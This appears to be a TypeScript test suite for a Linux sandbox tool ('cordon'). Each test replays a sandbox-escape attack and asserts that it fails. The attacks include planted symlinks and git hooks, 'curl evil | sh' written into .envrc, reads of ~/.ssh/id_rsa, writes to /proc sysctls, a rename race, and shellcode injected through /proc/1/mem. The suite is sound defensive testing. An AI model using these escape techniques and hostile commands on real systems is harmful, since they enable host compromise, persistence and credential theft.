import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { makeHostFixture, PLANTED_KEY, snapshotTree, text, type HostFixture } from "../helpers/host-fixture.js";

/**
 * Escapes found by attackers who had not read this suite (issue 10). Each
 * test is the attack as they ran it; it asserts the attack failed and the
 * host is unchanged. The suite runs as root and again as an ordinary user
 * (scripts/test-as-user.sh): the two paths differ in most of these.
 */
const PYTHON = "/usr/bin/python3";
const noPython = !fs.existsSync(PYTHON) && "needs /usr/bin/python3";
const isRoot = process.getuid?.() === 0;
const KEY_MARK = PLANTED_KEY.split("\n")[1] ?? "planted";

describe("attack: escapes through planted links, the host kernel and races", () => {
  let host: HostFixture;
  before(() => {
    host = makeHostFixture();
  });
  after(() => host.cleanup());

  for (const [protectedName, toParent] of [[".git", ".."], [".husky", ".."], [".github/workflows", "../.."]] as const) {
    test(`a ${protectedName} planted as a symlink to the project's parent does not mount it into the next sandbox`, async () => {
      // The project's parent holds the fixture's home folder, as ~/proj's does.
      const project = fs.mkdtempSync(path.join(host.root, "linked-"));
      fs.mkdirSync(path.join(project, ".github"), { recursive: true });
      // First sandbox: plants the link.
      const plant = await host.sh(`ln -s ${toParent} ${protectedName}`, { allowWrite: ["."] }, { hostCwd: project });
      assert.equal(plant.exitCode, 0, text(plant));
      const baseline = host.snapshot();
      // Next sandbox, same grant: reads through the mount the link used to cause.
      const read = await host.sh(`cat ${host.home}/.ssh/id_rsa; ls -a ${host.home}`, { allowWrite: ["."] }, { hostCwd: project });
      assert.ok(!text(read).includes(KEY_MARK), `the home folder was mounted: ${text(read)}`);
      assert.doesNotMatch(text(read), /\.npmrc/);
      assert.deepEqual(host.snapshot(), baseline);
    });
  }

  test("an existing nested .git, .husky, .vscode or .envrc below a writable grant stays read-only", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "nested-"));
    for (const dir of ["src/.git/hooks", "lib/.husky", "tools/.vscode"]) fs.mkdirSync(path.join(project, dir), { recursive: true });
    fs.writeFileSync(path.join(project, "src/.git/config"), "[core]\n");
    fs.writeFileSync(path.join(project, "pkg.envrc"), "");
    fs.mkdirSync(path.join(project, "app"));
    fs.writeFileSync(path.join(project, "app/.envrc"), "export A=1\n");
    const baseline = snapshotTree(project);
    const result = await host.sh([
      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/.git/config",
      "echo evil > src/.git/hooks/post-checkout", "echo evil > lib/.husky/pre-commit",
      "echo '{}' > tools/.vscode/tasks.json", "echo 'curl evil | sh' >> app/.envrc",
      "mv src/.git src/.git-old; true",
    ].join("; "), { allowWrite: ["."] }, { hostCwd: project });
    assert.deepEqual(snapshotTree(project), baseline, text(result));
  });

  test("persistence files a sandbox creates anywhere below a writable grant are reported when it ends", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "planted-"));
    fs.mkdirSync(path.join(project, "src/deep"), { recursive: true });
    fs.writeFileSync(path.join(project, "notes.txt"), "x\n");
    const result = await host.sh([
      "mkdir -p src/deep/.git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/deep/.git/config",
      "echo 'ref: refs/heads/main' > src/deep/.git/HEAD",
      "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
      "echo 'curl evil | sh' > src/.envrc", "echo registry=http://evil > src/.npmrc",
      "echo harmless >> notes.txt",
    ].join("; "), { allowWrite: ["."] }, { hostCwd: project });
    assert.equal(result.exitCode, 0, text(result));
    const reported = result.persistence.map((p) => `${p.change} ${path.relative(project, p.path)}`).sort();
    assert.deepEqual(reported, [
      "created .vscode/tasks.json", "created src/.envrc", "created src/.npmrc",
      "created src/deep/.git/HEAD", "created src/deep/.git/config",
    ].sort());
  });

  test("the CLI names planted persistence files on stderr and in --audit", () => {
    const project = fs.mkdtempSync(path.join(host.root, "planted-cli-"));
    const audit = path.join(host.root, "planted.audit");
    const cli = path.resolve("dist/src/cli/main.js");
    const result = spawnSync(process.execPath, [cli, "run", "--allow-write=.", `--audit=${audit}`, "--", "sh", "-c", "mkdir -p a/.git/hooks && echo x > a/.git/hooks/pre-commit"], {
      env: host.env, cwd: project, encoding: "utf8",
    });
    assert.match(result.stderr, /created\s+\S*a\/\.git\/hooks\/pre-commit/);
    const lines = fs.readFileSync(audit, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { type: string; path: string });
    assert.ok(lines.some((l) => l.type === "persistence" && l.path.endsWith("a/.git/hooks/pre-commit")));
  });

  test("a .husky link to the host's /tmp does not expose the host's sockets", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "linked-tmp-"));
    const marker = fs.mkdtempSync(path.join(os.tmpdir(), "cordon-host-tmp-marker-"));
    try {
      fs.symlinkSync(path.relative(project, os.tmpdir()), path.join(project, ".husky"));
      const result = await host.sh(`ls ${os.tmpdir()}`, { allowWrite: ["."] }, { hostCwd: project });
      assert.ok(!result.stdout.toString().includes(path.basename(marker)), text(result));
    } finally {
      fs.rmSync(marker, { recursive: true, force: true });
    }
  });

  /** Puts a host sysctl back if an attack got through, so a failing run leaves the machine as it was. */
  const restoreSysctl = (file: string, value: string): boolean => {
    if (fs.readFileSync(file, "utf8") === value) return false;
    fs.writeFileSync(file, value);
    return true;
  };

  test("the host kernel's settings under /proc are read-only and its private files are masked", async () => {
    const before = fs.readFileSync("/proc/sys/kernel/core_uses_pid", "utf8");
    const flipped = before.trim() === "0" ? "1" : "0";
    const script = [
      `echo ${flipped} > /proc/sys/kernel/core_uses_pid && echo WROTE-SYSCTL`,
      "echo b > /proc/sysrq-trigger 2>/dev/null && echo WROTE-SYSRQ",
      // Every file anyone in the sandbox could write under /proc and /sys,
      // except the sandbox's own processes (theirs to change).
      "find /proc /sys -writable ! -path '/proc/[0-9]*' ! -path '/proc/self/*' ! -path '/proc/thread-self/*' ! -type d 2>/dev/null | sed 's/^/WRITABLE /'",
      "find /proc /sys -writable -type d ! -path '/proc/[0-9]*' ! -path '/proc/self*' ! -path '/proc/thread-self*' 2>/dev/null | sed 's/^/WRITABLE-DIR /'",
      "for f in /proc/keys /proc/timer_list /proc/sched_debug /proc/kmsg /proc/kpageflags /proc/kpagecount /proc/slabinfo /proc/vmallocinfo /proc/1/mem; do [ -s $f ] && echo READABLE $f; head -c 1 $f 2>/dev/null | grep -q . && echo READABLE $f; done; true",
    ].join("\n");
    const result = await host.sh(script);
    assert.equal(restoreSysctl("/proc/sys/kernel/core_uses_pid", before), false, "the host's sysctl changed");
    const out = result.stdout.toString();
    assert.doesNotMatch(out, /WROTE/);
    assert.deepEqual(out.split("\n").filter((l) => l.startsWith("WRITABLE")), [], out);
    assert.doesNotMatch(out, /READABLE/);
  });

  test("a granted folder swapped for a link to the home folder while the sandbox starts is never mounted", { skip: noPython }, async () => {
    const race = fs.mkdtempSync(path.join(host.root, "race-"));
    const granted = path.join(race, "d");
    fs.mkdirSync(granted);
    fs.writeFileSync(path.join(granted, "ordinary.txt"), "ok\n");
    fs.symlinkSync(host.home, path.join(race, "link"));
    // renameat2(RENAME_EXCHANGE) swaps d and link atomically, as fast as it can.
    const nr = process.arch === "x64" ? 316 : 276;
    const swapper = spawn(PYTHON, ["-c", [
      "import ctypes, sys",
      "libc = ctypes.CDLL(None, use_errno=True)",
      "a, b = sys.argv[1].encode(), sys.argv[2].encode()",
      "while True: libc.syscall(" + nr + ", -100, a, -100, b, 2)",
    ].join("\n"), granted, path.join(race, "link")], { stdio: "ignore" });
    let escaped = 0;
    let ran = 0;
    try {
      for (let i = 0; i < 60; i += 1) {
        try {
          const result = await host.sh(`ls -a ${granted}`, { allowRead: [granted] });
          ran += 1;
          if (/\.ssh|\.npmrc/.test(result.stdout.toString())) escaped += 1;
        } catch {
          // Refused: either the check saw the link, or the pinned descriptor
          // no longer matched the checked path. Both are the right answer.
        }
      }
    } finally {
      swapper.kill("SIGKILL");
    }
    assert.equal(escaped, 0, `the home folder was mounted in ${escaped} of ${ran} runs`);
  });

  test("only the socket families a sandbox needs: vsock, packet, alg and non-route netlink are refused", { skip: noPython }, async () => {
    const script = [
      "import socket",
      "for name, fam, typ, proto in [('vsock', 40, 1, 0), ('packet', 17, 3, 0), ('alg', 38, 5, 0), ('netlink-audit', 16, 3, 9), ('inet-sock-packet', 2, 10, 0),",
      "                              ('unix', 1, 1, 0), ('inet', 2, 1, 0), ('inet6', 10, 1, 0), ('netlink-route', 16, 3, 0)]:",
      "    try:",
      "        socket.socket(fam, typ, proto).close(); print(name, 'open')",
      "    except OSError as e:",
      "        print(name, e.errno)",
    ].join("\n");
    fs.writeFileSync(path.join(host.project, "families.py"), script);
    const out = (await host.sh(`${PYTHON} families.py`, { allowRead: ["."] })).stdout.toString();
    for (const refused of ["vsock", "packet", "alg", "netlink-audit", "inet-sock-packet"]) assert.match(out, new RegExp(`^${refused} 97$`, "m"), out);
    for (const allowed of ["unix", "inet", "inet6", "netlink-route"]) assert.match(out, new RegExp(`^${allowed} open$`, "m"), out);
  });

  test("a process cannot take a sibling's descriptors with pidfd_getfd", { skip: noPython || process.arch !== "x64" }, async () => {
    const script = [
      "import ctypes, os, subprocess",
      "libc = ctypes.CDLL(None, use_errno=True)",
      "child = subprocess.Popen(['sleep', '5'])",
      "pidfd = libc.syscall(434, child.pid, 0)",
      "ctypes.set_errno(0)",
      "r = libc.syscall(438, pidfd, 0, 0)",
      "print('getfd', r, ctypes.get_errno())",
      "child.kill()",
    ].join("\n");
    fs.writeFileSync(path.join(host.project, "getfd.py"), script);
    const out = (await host.sh(`${PYTHON} getfd.py`, { allowRead: ["."] })).stdout.toString();
    assert.match(out, /^getfd -1 1$/m, out);
  });

  test("memory held through memfd does not escape --memory", { skip: noPython }, async () => {
    const script = [
      "import os",
      "try:",
      "    fd = os.memfd_create('hoard')",
      "except OSError as e:",
      "    print('memfd refused', e.errno); raise SystemExit(3)",
      "chunk = b'x' * (1 << 20)",
      "for _ in range(400): os.write(fd, chunk)",
      "print('HELD 400 MiB')",
    ].join("\n");
    fs.writeFileSync(path.join(host.project, "hoard.py"), script);
    const result = await host.sh(`${PYTHON} hoard.py`, { allowRead: ["."], memory: "100M" });
    assert.doesNotMatch(result.stdout.toString(), /HELD/, text(result));
    assert.notEqual(result.exitCode, 0);
  });

  test("a bwrap planted in a writable folder on $PATH is not the one cordon runs", () => {
    const evil = fs.mkdtempSync(path.join(host.root, "evil-bin-"));
    const marker = path.join(evil, "ran");
    fs.writeFileSync(path.join(evil, "bwrap"), `#!/bin/sh\ntouch ${marker}\nexit 0\n`, { mode: 0o755 });
    const cli = path.resolve("dist/src/cli/main.js");
    const result = spawnSync(process.execPath, [cli, "run", "--", "true"], {
      env: { ...host.env, PATH: `${evil}:${process.env.PATH ?? ""}` },
      cwd: host.project,
      encoding: "utf8",
    });
    assert.equal(result.status, 0, result.stderr);
    assert.ok(!fs.existsSync(marker), "cordon ran the planted bwrap");
  });

  test("code written into PID 1's memory cannot switch off --die-with-parent and outlive the timeout", { skip: (noPython || process.arch !== "x64") && "needs python3 on x86_64" }, async () => {
    const work = fs.mkdtempSync(path.join(host.root, "survivor-"));
    const counter = path.join(work, "alive");
    // prctl(PR_SET_PDEATHSIG, 0), then wait4(-1) in a loop: written over
    // PID 1's current instruction through /proc/1/mem (PID 1 sits in wait4).
    const shellcode = "b89d000000bf0100000031f60f05b83d00000048c7c7ffffffff31f631d24531d20f054885c079e6b8220000000f05ebdd";
    fs.writeFileSync(path.join(work, "inject.py"), [
      "import os, subprocess, sys, time",
      `code = bytes.fromhex("${shellcode}")`,
      "pc = int(open('/proc/1/syscall').read().split()[-1], 16)",
      "fd = os.open('/proc/1/mem', os.O_RDWR)",
      "os.lseek(fd, pc, 0); os.write(fd, code); os.close(fd)",
      "subprocess.Popen(['sh', '-c', 'i=0; while :; do i=$((i+1)); echo $i > ' + sys.argv[1] + '; sleep 0.2; done'], start_new_session=True)",
      "subprocess.Popen(['sh', '-c', '(sleep 0.3; exit 0) &']).wait()",
      "time.sleep(60)",
    ].join("\n"));
    const guard = new Promise<"hung">((resolve) => setTimeout(() => resolve("hung"), 30_000).unref());
    const outcome = await Promise.race([
      host.sh(`${PYTHON} inject.py ${counter}`, { allowWrite: [work], timeout: "3s" }, { hostCwd: work }),
      guard,
    ]);
    assert.notEqual(outcome, "hung", "cordon did not return after the timeout");
    const before = fs.existsSync(counter) ? fs.readFileSync(counter, "utf8") : "";
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const after = fs.existsSync(counter) ? fs.readFileSync(counter, "utf8") : "";
    assert.equal(after, before, "a process of the sandbox is still running after cordon returned");
  });

  test("a symlink planted in one run does not turn the next run's grant into one of the home folder's key stores", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "planted-grant-"));
    await host.sh(`ln -s ${JSON.stringify(path.join(host.home, ".ssh"))} dist`, { allowWrite: ["."] }, { hostCwd: project });
    const baseline = host.snapshot();
    await assert.rejects(
      host.sh("cat dist/id_rsa; echo BACKDOOR > dist/authorized_keys", { allowRead: ["."], allowWrite: ["./dist"] }, { hostCwd: project }),
      /symlink to .*holds credentials/,
    );
    assert.deepEqual(host.snapshot(), baseline);
  });

  test("descriptors cordon's parent left open do not reach the sandbox", () => {
    const cli = path.resolve("dist/src/cli/main.js");
    const homeFd = fs.openSync(host.home, "r");
    try {
      const stdio: (number | "pipe" | "ignore")[] = ["ignore", "pipe", "pipe"];
      while (stdio.length < 40) stdio.push("ignore");
      stdio[40] = homeFd;
      const result = spawnSync(process.execPath, [cli, "run", "--", "sh", "-c", "cat /proc/self/fd/40/.ssh/id_rsa; ls /proc/self/fd/40/"], {
        env: host.env, cwd: host.project, stdio, encoding: "utf8",
      });
      assert.ok(!`${result.stdout}${result.stderr}`.includes(KEY_MARK), "the key was read through an inherited descriptor");
      assert.doesNotMatch(result.stdout ?? "", /\.ssh/);
    } finally {
      fs.closeSync(homeFd);
    }
  });

  test("an npm or node planted on $PATH (as node_modules/.bin is during npm scripts) is not what cordon runs", () => {
    const evil = fs.mkdtempSync(path.join(host.root, "evil-npm-"));
    const marker = path.join(evil, "ran");
    for (const name of ["npm", "node"]) fs.writeFileSync(path.join(evil, name), `#!/bin/sh\ntouch ${marker}\nexit 1\n`, { mode: 0o755 });
    const cli = path.resolve("dist/src/cli/main.js");
    spawnSync(process.execPath, [cli, "scan", "npm:cordon-no-such-package-4d2f"], {
      env: { ...host.env, PATH: `${evil}:${process.env.PATH ?? ""}` }, cwd: host.project, encoding: "utf8", timeout: 60_000,
    });
    assert.ok(!fs.existsSync(marker), "cordon ran a planted npm");
  });

  test("a bare repository git would find, a .claude hook and a workflow action planted below a grant are reported", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "planted-more-"));
    const result = await host.sh([
      "mkdir -p src/objects src/refs && echo 'ref: refs/heads/main' > src/HEAD",
      "printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/config",
      "mkdir -p .claude && echo '{}' > .claude/settings.json",
      "mkdir -p .github/actions/x && echo 'runs: {}' > .github/actions/x/action.yml",
      "echo 'module.exports = {}' > .pnpmfile.cjs",
    ].join("; "), { allowWrite: ["."] }, { hostCwd: project });
    const reported = result.persistence.map((p) => path.relative(project, p.path)).sort();
    for (const planted of ["src/config", "src/HEAD", ".claude/settings.json", ".github/actions/x/action.yml", ".pnpmfile.cjs"]) {
      assert.ok(reported.includes(planted), `${planted} was not reported: ${reported.join(", ")}`);
    }
  });

  test("flooding a writable grant to hide a planted hook is said, not reported as clean", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "flood-"));
    const result = await host.sh(
      "mkdir 0flood && cd 0flood && seq 1 50001 | xargs touch && cd .. && mkdir -p zz/r/.git/hooks && echo evil > zz/r/.git/hooks/pre-commit",
      { allowWrite: ["."] }, { hostCwd: project },
    );
    assert.equal(result.exitCode, 0, text(result));
    assert.ok(result.persistenceChecked === false || result.persistence.some((p) => p.path.endsWith("pre-commit")), "the flood hid the hook and the run looked clean");
  });

  test("a grant of .git/objects leaves the rest of .git read-only", async () => {
    const project = fs.mkdtempSync(path.join(host.root, "git-objects-"));
    fs.mkdirSync(path.join(project, ".git/hooks"), { recursive: true });
    fs.mkdirSync(path.join(project, ".git/objects"));
    const result = await host.sh("echo x > .git/objects/o && echo OBJECTS; echo evil > .git/hooks/pre-commit && echo HOOKED; true",
      { allowWrite: [".", ".git/objects"] }, { hostCwd: project });
    assert.match(result.stdout.toString(), /OBJECTS/);
    assert.doesNotMatch(result.stdout.toString(), /HOOKED/);
    assert.ok(!fs.existsSync(path.join(project, ".git/hooks/pre-commit")));
  });

  test("cordon run --memory where only per-process limits exist is refused, not a limit that only looks enforced", { skip: isRoot && "root has a writable cgroup here" }, () => {
    const cli = path.resolve("dist/src/cli/main.js");
    const result = spawnSync(process.execPath, [cli, "run", "--memory=64m", "--", "true"], { env: host.env, cwd: host.project, encoding: "utf8" });
    if (/by cgroup/.test(spawnSync(process.execPath, [cli, "run", "--explain", "--", "true"], { env: host.env, encoding: "utf8" }).stdout)) return;
    assert.equal(result.status, 125, result.stderr);
    assert.match(result.stderr, /--memory cannot be enforced on this machine/);
  });

  test("cordon's own build cache stays read-only inside a writable grant of ~/.cache", async () => {
    const builds = path.join(host.home, ".cache/cordon/builds");
    fs.mkdirSync(builds, { recursive: true });
    const result = await host.sh(`echo forged > ${builds}/entry && echo PLANTED; echo ok > ${host.home}/.cache/other && echo OTHER`,
      { allowWrite: [path.join(host.home, ".cache")] });
    assert.doesNotMatch(result.stdout.toString(), /PLANTED/);
    assert.match(result.stdout.toString(), /OTHER/);
    assert.equal(fs.existsSync(path.join(builds, "entry")), false);
  });

  test("as root, the sandbox's uid 0 cannot change host-wide kernel settings through /proc/sys", { skip: !isRoot && "only root's sandbox maps to host uid 0" }, async () => {
    const before = fs.readFileSync("/proc/sys/kernel/core_pattern", "utf8");
    const result = await host.sh("echo '|/bin/false planted' > /proc/sys/kernel/core_pattern; cat /proc/sys/kernel/core_pattern");
    assert.equal(restoreSysctl("/proc/sys/kernel/core_pattern", before), false, "the host's core_pattern changed");
    assert.doesNotMatch(result.stdout.toString(), /planted/);
  });
});
